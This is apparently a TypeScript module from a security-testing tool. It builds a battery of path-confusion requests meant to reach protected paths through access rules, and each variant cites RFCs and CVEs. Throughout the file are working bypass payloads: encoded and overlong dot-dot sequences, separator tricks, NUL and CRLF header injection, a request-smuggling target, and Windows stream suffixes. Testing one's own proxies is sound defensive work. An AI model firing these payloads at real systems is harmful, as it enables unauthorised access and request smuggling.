/** Spellings of a path that one server reads as the protected one and another does not. */
import { type Attack, fill, MARK, type PositionName, requestFrom, SMUGGLED } from '../attack.js'
import { climb, segmentsOf } from './segments.js'

const REFUSED: readonly PositionName[] = ['stranger-refused', 'user-refused']

/** Name, spelling of `..`, source, who alone reads it so. */
const DOT_DOTS: readonly (readonly [name: string, spelling: string, source: string, onlyFor?: string])[] = [
  ['plain', '..', 'RFC 3986 §5.2.4; CVE-2018-13379'],
  ['encoded', '%2e%2e', 'RFC 3986 §6.2.2.2; CVE-2021-41773'],
  ['encoded-upper', '%2E%2E', 'RFC 3986 §6.2.2.1'],
  ['half-encoded', '.%2e', 'CVE-2021-41773'],
  ['other-half-encoded', '%2e.', 'CVE-2021-41773'],
  ['double-encoded', '%252e%252e', 'CVE-2021-42013; CWE-174'],
  ['half-double-encoded', '.%252e', 'CVE-2021-42013'],
  ['encoded-in-pieces', '%%32%65%%32%65', 'CVE-2021-42013'],
  ['hex-of-percent', '%25%32%65%25%32%65', 'CWE-174'],
  ['triple-encoded', '%25252e%25252e', 'CWE-174'],
  ['parameter', '..;', 'CVE-2020-5902; CVE-2026-127060'],
  ['named-parameter', '..;a=b', 'RFC 3986 §3.3; Orange Tsai: Breaking parser logic (2018)'],
  ['encoded-parameter', '..%3b', 'CVE-2020-13933'],
  ['double-encoded-parameter', '..%253b', 'CWE-174'],
  ['encoded-dots-parameter', '%2e%2e;', 'CVE-2020-11989'],
  ['overlong-two-bytes', '%c0%ae%c0%ae', 'RFC 3629 §10; CVE-2008-2938'],
  ['overlong-three-bytes', '%e0%80%ae%e0%80%ae', 'RFC 3629 §10'],
  ['overlong-four-bytes', '%f0%80%80%ae%f0%80%80%ae', 'RFC 3629 §10'],
  ['invalid-continuation', '%c0.%c0.', 'CVE-2000-0884'],
  ['iis-unicode', '%u002e%u002e', 'CVE-2000-0884'],
  ['nul', '..%00', 'CWE-158'],
  ['tab', '..%09', 'CWE-158'],
  ['line-feed', '..%0a', 'CVE-2023-25690'],
  ['query-in-escape', '..%3f', 'CWE-436'],
  ['fragment-in-escape', '..%23', 'CVE-2021-32779'],
  ['fullwidth', '%ef%bc%8e%ef%bc%8e', 'Unicode UTS 36 §3', 'servers that normalise Unicode (NFKC)'],
  ['trailing-space', '..%20', 'CWE-46', 'Windows file systems'],
  ['three-dots', '...', 'CWE-32', 'file systems of old Windows']
]

/** Name, what stands where a slash should, source, who alone reads it so. */
const SEPARATORS: typeof DOT_DOTS = [
  ['double-slash', '//', 'CVE-2021-31920; CWE-289'],
  ['triple-slash', '///', 'CWE-289'],
  ['encoded-slash', '%2f', 'CVE-2021-29492; RFC 3986 §2.2'],
  ['encoded-slash-upper', '%2F', 'CVE-2021-29492'],
  ['double-encoded-slash', '%252f', 'CWE-174'],
  ['slash-and-encoded-slash', '/%2f', 'CVE-2021-29492'],
  ['backslash', '\\', 'CVE-2021-29492; WHATWG URL'],
  ['encoded-backslash', '%5c', 'CVE-2021-29492'],
  ['double-encoded-backslash', '%255c', 'CWE-174'],
  ['mixed-slashes', '/\\', 'WHATWG URL'],
  ['dot', '/./', 'RFC 3986 §5.2.4'],
  ['encoded-dot', '/%2e/', 'CVE-2021-41773'],
  ['empty-parameter', ';/', 'CVE-2020-11989'],
  ['parameter', ';a=b/', 'RFC 3986 §3.3; CVE-2020-1957'],
  ['parameter-segment', '/;a=b/', 'CVE-2020-13933'],
  ['encoded-parameter', '%3b/', 'CVE-2020-13933'],
  ['encoded-query-in-parameter', ';%3f/', 'CWE-436'],
  ['overlong-slash', '%c0%af', 'RFC 3629 §10; CVE-2000-0884'],
  ['overlong-slash-three', '%e0%80%af', 'RFC 3629 §10'],
  ['nul', '%00/', 'CWE-158'],
  ['tab', '%09/', 'CWE-158'],
  ['carriage-return', '%0d/', 'CWE-93'],
  ['line-feed', '%0a/', 'CVE-2023-25690'],
  ['raw-tab', '\t/', 'RFC 9112 §3'],
  ['delete', '%7f/', 'CWE-158'],
  ['c1-control', '%c2%85/', 'CWE-158'],
  ['bad-escape', '%zz/', 'RFC 3986 §2.1'],
  ['cut-escape', '%/', 'RFC 3986 §2.1'],
  ['fullwidth-slash', '%ef%bc%8f', 'Unicode UTS 36 §3', 'servers that normalise Unicode (NFKC)'],
  ['division-slash', '%e2%88%95', 'Unicode UTS 36 §3', 'servers with a best fit to a code page'],
  ['trailing-dot', './', 'CWE-42', 'Windows file systems'],
  ['trailing-space', '%20/', 'CWE-46', 'Windows file systems'],
  ['soft-hyphen', '%c2%ad/', 'Unicode UTS 36 §3', 'servers that drop what is invisible'],
  ['zero-width-space', '%e2%80%8b/', 'Unicode UTS 36 §3', 'servers that drop what is invisible']
]

/** Name, whole target, source, who alone reads it so. */
const TARGETS: typeof DOT_DOTS = [
  ['plain', '{path}', 'the innocent request itself'],
  ['letter-escaped', '{escaped}', 'RFC 3986 §6.2.2.2'],
  ['letter-escaped-twice', '{twice}', 'CWE-174'],
  ['leading-double-slash', '/{path}', 'CVE-2021-31920'],
  ['leading-triple-slash', '//{path}', 'CWE-289'],
  ['leading-dot', '/.{path}', 'RFC 3986 §5.2.4'],
  ['leading-encoded-dot', '/%2e{path}', 'CVE-2021-41773'],
  ['leading-encoded-slash', '/%2f{bare}', 'CVE-2021-29492'],
  ['leading-backslash', '\\{bare}', 'WHATWG URL'],
  ['leading-slash-backslash', '/\\{bare}', 'WHATWG URL'],
  ['leading-parameter', '/;a=b{path}', 'CVE-2020-13933'],
  ['leading-dots', '/..{path}', 'RFC 3986 §5.2.4'],
  ['no-slash', '{bare}', 'RFC 9112 §3.2'],
  ['leading-dots-without-slash', '..{path}', 'RFC 9112 §3.2'],
  ['fragment', '{path}#{open}', 'CVE-2021-32779; RFC 9112 §3.2'],
  ['fragment-before', '{open}#{path}', 'CVE-2021-32779'],
  ['encoded-fragment', '{path}%23', 'CVE-2021-32779'],
  ['encoded-query', '{path}%3fx', 'CWE-436'],
  ['query', '{path}?{open}', 'RFC 3986 §3.4'],
  ['query-with-dots', '{path}?/../..{open}', 'RFC 3986 §3.4'],
  ['parameter-at-the-end', '{path};a=b', 'RFC 3986 §3.3'],
  ['dot-at-the-end', '{path}/.', 'RFC 3986 §5.2.4'],
  ['encoded-dot-at-the-end', '{path}/%2e', 'CVE-2021-41773'],
  ['there-and-back', '{path}/x/..', 'RFC 3986 §5.2.4'],
  ['nul-at-the-end', '{path}%00', 'CWE-158'],
  ['nul-and-ending', '{path}%00.png', 'CWE-158'],
  ['line-feed-at-the-end', '{path}%0a', 'CVE-2023-25690'],
  ['header-in-escape', '{path}%0d%0aX-Injected:%20{mark}', 'CWE-93; CVE-2023-25690'],
  ['request-in-escape', '{path}%20HTTP/1.1%0d%0aHost:%20x%0d%0a%0d%0aGET%20/{smuggled}', 'CVE-2023-25690'],
  ['raw-utf-8', '{path}\xc3\xa4', 'RFC 3986 §2'],
  ['raw-byte', '{path}\xff', 'RFC 3986 §2'],
  ['braces', '{path}{x}', 'RFC 3986 §2'],
  ['absolute', 'http://{host}{path}', 'RFC 9112 §3.2.2'],
  ['absolute-upper', 'HTTP://{host}{path}', 'RFC 9112 §3.2.2'],
  ['absolute-with-user', 'http://x@{host}{path}', 'RFC 9110 §4.2.4'],
  ['absolute-other-host', 'http://attack.invalid{path}', 'RFC 9112 §3.2.2'],
  ['absolute-other-scheme', 'file://{host}{path}', 'RFC 9112 §3.2.2'],
  ['absolute-without-slashes', 'http:{path}', 'RFC 9112 §3.2.2'],
  ['absolute-with-dots', 'http://{host}{open}/..{path}', 'RFC 3986 §5.2.4'],
  ['scheme-relative', '//{host}{path}', 'RFC 3986 §4.2'],
  ['authority', '{host}', 'RFC 9112 §3.2.3'],
  ['asterisk-and-path', '*{path}', 'RFC 9112 §3.2.4'],
  ['slash-at-the-end', '{path}/', 'CWE-289', 'frameworks without strict routing (Express)'],
  ['ending', '{path}.json', 'CWE-289', 'frameworks that match by suffix (Spring 5, Rails)'],
  ['dot-last', '{path}.', 'CWE-42', 'Windows file systems'],
  ['space-last', '{path}%20', 'CWE-46', 'Windows file systems'],
  ['stream-last', '{path}::$DATA', 'CVE-1999-0278', 'Windows file systems'],
  ['tilde-last', '{path}~', 'CWE-530', 'editors that keep what was before']
]

/** Letter cases: other paths to some upstreams, and the same one to others. */
const CASES: typeof DOT_DOTS = [
  ['upper', '{upper}', 'CWE-178'],
  ['capital', '{capital}', 'CWE-178'],
  ['last-upper', '{lastUpper}', 'CWE-178'],
  ['folder-upper', '{folderUpper}', 'CWE-178']
]

const pathAttack = (
  name: string,
  why: string,
  [, , source, onlyFor]: (typeof DOT_DOTS)[number],
  target: (pieces: Readonly<Record<string, string>>) => string
): Attack => ({
  id: `paths/${name}`,
  family: 'paths',
  why,
  source,
  from: REFUSED,
  ...(onlyFor === undefined ? {} : { onlyFor }),
  neverAnswered: /^x-injected:/im,
  send: (shot) => {
    const pieces = { ...segmentsOf(shot), host: shot.position.host }
    return requestFrom(shot.position, { target: target(pieces) })
  }
})

const TWO_READINGS = 'The rule is chosen by one reading of the path, and the upstream answers by another.'

export const paths: readonly Attack[] = [
  ...DOT_DOTS.flatMap((row) => [
    pathAttack(
      `out-of-the-open-${row[0]}`,
      TWO_READINGS,
      row,
      ({ open = '', path = '' }) => open + climb(open, row[1]) + path
    ),
    pathAttack(`detour-${row[0]}`, TWO_READINGS, row, ({ folder = '', last = '' }) => `${folder}/x/${row[1]}/${last}`)
  ]),
  ...SEPARATORS.flatMap((row) => [
    pathAttack(
      `last-separator-${row[0]}`,
      TWO_READINGS,
      row,
      ({ folder = '', last = '' }) => `${folder}${row[1]}${last}`
    ),
    pathAttack(
      `first-separator-${row[0]}`,
      TWO_READINGS,
      row,
      ({ first = '', rest = '' }) => `${first}${row[1]}${rest.slice(1)}`
    )
  ]),
  ...TARGETS.map((row) =>
    pathAttack(`target-${row[0]}`, TWO_READINGS, row, (pieces) =>
      fill(row[1], { ...pieces, mark: MARK, smuggled: SMUGGLED })
    )
  ),
  ...CASES.map((row) => ({
    ...pathAttack(`case-${row[0]}`, 'Many routers do not tell letter cases apart.', row, (pieces) =>
      fill(row[1], pieces)
    ),
    byCase: true
  }))
]
